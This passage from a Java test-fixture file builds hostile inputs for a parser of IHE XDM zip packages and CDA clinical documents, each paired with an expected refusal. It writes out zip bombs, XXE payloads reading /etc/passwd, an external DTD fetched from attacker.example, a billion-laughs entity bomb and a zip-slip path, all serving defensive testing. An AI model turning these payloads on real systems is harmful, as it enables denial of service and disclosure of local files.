            "IHE_XDM/SUBSET01/DOC0001.XML", new byte[64 * 1024 * 1024]), "UNSAFE_ZIP",
            "entry 'IHE_XDM/SUBSET01/DOC0001.XML' inflates more than 100 times"));
        inputs.add(xdm("bomb-repeated-spaces.zip", zip("README.TXT", " ".repeat(8 * 1024 * 1024)), "UNSAFE_ZIP",
            "entry 'README.TXT' inflates more than 100 times"));
        inputs.add(xdm("bomb-repeated-xml.zip", zip("IHE_XDM/SUBSET01/METADATA.XML", "<a/>".repeat(2 * 1024 * 1024)),
            "UNSAFE_ZIP", "inflates more than 100 times"));
        // many entries
        Object[] many = new Object[2 * 1001];
        for (int i = 0; i < 1001; i++) {
            many[2 * i] = "IHE_XDM/SUBSET01/F" + i + ".TXT";
            many[2 * i + 1] = "";
        }
        inputs.add(xdm("many-entries-1001.zip", zip(many), "UNSAFE_ZIP", "more than 1000 entries"));
        Object[] folders = new Object[2 * 5000];
        for (int i = 0; i < 5000; i++) {
            folders[2 * i] = "D" + i + "/";
            folders[2 * i + 1] = "";
        }
        inputs.add(xdm("many-folder-entries-5000.zip", zip(folders), "UNSAFE_ZIP", "more than 1000 entries"));
        // nested ZIPs: never unpacked, so a ZIP in a ZIP in a ZIP is no package
        byte[] innermost = zip("zeros.bin", new byte[32 * 1024 * 1024]);
        byte[] nested = storedZip("level2.zip", storedZip("level1.zip", innermost));
        inputs.add(xdm("nested-zips-of-a-bomb.zip", zip("level3.zip", nested), "NOT_XDM", "no IHE_XDM/<subset>/METADATA.XML"));
        inputs.add(xdm("nested-zip-as-metadata.zip", zip("IHE_XDM/SUBSET01/METADATA.XML", innermost), "NOT_XDM",
            "IHE_XDM/SUBSET01/METADATA.XML is not readable XML"));
        byte[] smallBomb = zip("zeros.bin", new byte[4 * 1024 * 1024]);
        Object[] bombs = new Object[2 * 1001];
        for (int i = 0; i < 1001; i++) {
            bombs[2 * i] = "BOMB" + i + ".ZIP";
            bombs[2 * i + 1] = smallBomb;
        }
        inputs.add(xdm("many-nested-bombs.zip", storedZipOfMany(bombs), "UNSAFE_ZIP", "more than 1000 entries"));
        // hostile metadata
        inputs.add(xdm("metadata-xxe-file.zip", zip("IHE_XDM/SUBSET01/METADATA.XML", "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY"
            + " xxe SYSTEM \"file:///etc/passwd\">]>" + metadata("&xxe;").substring(38)), "NOT_XDM", "DOCTYPE is disallowed"));
        inputs.add(xdm("metadata-xxe-http.zip", zip("IHE_XDM/SUBSET01/METADATA.XML", "<!DOCTYPE r SYSTEM"
            + " \"http://attacker.example/rim.dtd\"><r/>"), "NOT_XDM", "DOCTYPE is disallowed"));
        inputs.add(xdm("metadata-billion-laughs.zip", zip("IHE_XDM/SUBSET01/METADATA.XML", billionLaughs().replace("ClinicalDocument",
            "r") + "<r>&lol9;</r>"), "NOT_XDM", "DOCTYPE is disallowed"));
        inputs.add(xdm("metadata-deep-nesting-value.zip", zip("IHE_XDM/SUBSET01/METADATA.XML", metadata(deep("x", 100_000))),
            "REFUSED", "").knownFinding(DEEP));
        inputs.add(xdm("metadata-deep-nesting-elsewhere.zip", zip("IHE_XDM/SUBSET01/METADATA.XML",
            "<r xmlns=\"urn:oasis:names:tc:ebxml-regrep:xsd:rim:3.0\">" + deep("x", 100_000) + "</r>"), "NOT_XDM",
            "the metadata lists no document"));
        inputs.add(xdm("metadata-truncated.zip", zip("IHE_XDM/SUBSET01/METADATA.XML", metadata("DOC0001.XML").substring(0, 200)),
            "NOT_XDM", "is not readable XML"));
        inputs.add(xdm("metadata-invalid-utf8.zip", zip("IHE_XDM/SUBSET01/METADATA.XML", concat(utf8(metadata("DOC0001.XML")
            .substring(0, 300)), hex("C0AF"), utf8(metadata("DOC0001.XML").substring(300)))), "NOT_XDM", "is not readable XML"));
        inputs.add(xdm("metadata-wrong-namespace.zip", zip("IHE_XDM/SUBSET01/METADATA.XML", metadata("DOC0001.XML")
            .replace("rim:3.0", "rim:2.1"), "IHE_XDM/SUBSET01/DOC0001.XML", goodCda()), "NOT_XDM", "the metadata lists no document"));
        inputs.add(xdm("metadata-no-uri.zip", zip("IHE_XDM/SUBSET01/METADATA.XML", metadata("DOC0001.XML").replace("name=\"URI\"",
            "name=\"hash\"")), "NOT_XDM", "a document entry has no URI slot"));
        inputs.add(xdm("metadata-missing-document.zip", xdmPackage().missingDocument("DOC0002.XML").build(), "MISSING_FILE",
            "DOC0002.XML"));
        // not a ZIP, or a broken one
        byte[] good = xdmPackage().build();
        inputs.add(xdm("zip-truncated-half.zip", Arrays.copyOf(good, good.length / 2), "UNSAFE_ZIP", "not a readable ZIP file"));
        inputs.add(xdm("zip-only-local-header.zip", Arrays.copyOf(good, 30), "UNSAFE_ZIP", "not a readable ZIP file"));
        inputs.add(xdm("zip-empty.zip", zip(), "NOT_XDM", "the ZIP file is empty"));
        inputs.add(xdm("not-a-zip-cda.zip", utf8(goodCda()), "NOT_XDM", "the ZIP file is empty"));
        inputs.add(xdm("not-a-zip-nothing.zip", new byte[0], "NOT_XDM", "the ZIP file is empty"));
        inputs.add(xdm("zip-encrypted-entry.zip", encryptedFlag(xdmPackage().build()), "UNSAFE_ZIP", "encrypted ZIP entry"));
        // an entry name in the DOS code page, as Windows tools write them (no UTF-8 flag): é is byte 0x82
        inputs.add(xdm("zip-entry-name-not-utf8.zip", zipNamedIn(Charset.forName("IBM437"), "IHE_XDM/SUBSET01/Compte rendu é.pdf"),
            "REFUSED", "").knownFinding(NAME_NOT_UTF8));
        inputs.add(xdm("zip-no-metadata.zip", zip("README.TXT", "Paquet sans métadonnées"), "NOT_XDM",
            "no IHE_XDM/<subset>/METADATA.XML"));
        inputs.add(xdm("zip-corrupt-deflate.zip", corruptDeflate(zip("IHE_XDM/SUBSET01/METADATA.XML", metadata("DOC0001.XML")
            .repeat(20))), "UNSAFE_ZIP", "not a readable ZIP file"));
        return inputs;
    }

    /** A ZIP whose entry names are written in the given character set, without the UTF-8 flag. */
    static byte[] zipNamedIn(Charset names, String name) {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(bytes, names)) {
            zip.putNextEntry(new ZipEntry(name));
            zip.write(utf8("%PDF-1.4 synthetic"));
            zip.closeEntry();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return bytes.toByteArray();
    }

    static byte[] storedZipOfMany(Object[] namesAndContents) {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
            for (int i = 0; i < namesAndContents.length; i += 2) {
                byte[] content = (byte[]) namesAndContents[i + 1];
                ZipEntry entry = new ZipEntry((String) namesAndContents[i]);
                entry.setMethod(ZipEntry.STORED);
                entry.setSize(content.length);
                CRC32 crc = new CRC32();
                crc.update(content);
                entry.setCrc(crc.getValue());
                zip.putNextEntry(entry);
                zip.write(content);
                zip.closeEntry();
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return bytes.toByteArray();
    }

    /** Sets the "encrypted" flag (general purpose bit 0) of the first local file header. */
    static byte[] encryptedFlag(byte[] zip) {
        byte[] copy = zip.clone();
        copy[6] |= 1;
        return copy;
    }

    /** Overwrites bytes in the middle of the first entry's deflate stream. */
    static byte[] corruptDeflate(byte[] zip) {
        byte[] copy = zip.clone();
        int nameLength = (copy[26] & 0xFF) | (copy[27] & 0xFF) << 8;
        int data = 30 + nameLength;
        for (int i = data + 2; i < Math.min(copy.length, data + 40); i++) {
            copy[i] = (byte) 0xFF;
        }
        return copy;
    }

    // ---- seeds for the fuzz tests (small, so the regression run stays fast) -----------------------------------

    static List<HostileInput> cdaSeeds() {
        String good = goodCda();
        List<HostileInput> seeds = new ArrayList<>();
        seeds.add(refused("seed", "letter.xml", utf8(good), "", ""));
        seeds.add(refused("seed", "level-one.xml", utf8(levelOneCda()), "", ""));
        seeds.add(refused("seed", "results.xml", utf8(letter().section("30954-2", "Résultats", "Bilan",
            CdaBuilder.result("2345-7", "Glucose", "5.4", "mmol/L")).section("48765-2", "Allergies", "Pénicilline",
            CdaBuilder.allergy("C0030842", "Pénicilline")).section("10160-0", "Traitements", "Amoxicilline",
            CdaBuilder.medication("3400935955838", "Amoxicilline 1 g", "1", "g")).build()), "", ""));
        seeds.add(refused("seed", "xxe.xml", utf8("<?xml version=\"1.0\"?>\n<!DOCTYPE ClinicalDocument [<!ENTITY xxe SYSTEM"
            + " \"file:///etc/passwd\">]>\n" + body(good)), "", ""));
        seeds.add(refused("seed", "truncated.xml", Arrays.copyOf(utf8(good), good.length() / 2), "", ""));
        seeds.add(refused("seed", "bad-ins.xml", utf8(good.replace(INS, INS.substring(0, 13) + "00")), "", ""));
        seeds.add(refused("seed", "bad-base64.xml", utf8(levelOneCda().replace("JVBERi0x", "JV*ERi0x")), "", ""));
        return seeds;
    }

    static List<HostileInput> xdmSeeds() {
        List<HostileInput> seeds = new ArrayList<>();
        seeds.add(refused("seed", "package.zip", xdmPackage().build(), "", ""));
        seeds.add(refused("seed", "zip-slip.zip", zip("../../etc/x", "x"), "", ""));
        seeds.add(refused("seed", "metadata-only.zip", zip("IHE_XDM/S/METADATA.XML", metadata("DOC0001.XML")), "", ""));
        seeds.add(refused("seed", "stored.zip", storedZip("IHE_XDM/S/METADATA.XML", utf8(metadata("A.XML"))), "", ""));
        return seeds;
    }
}
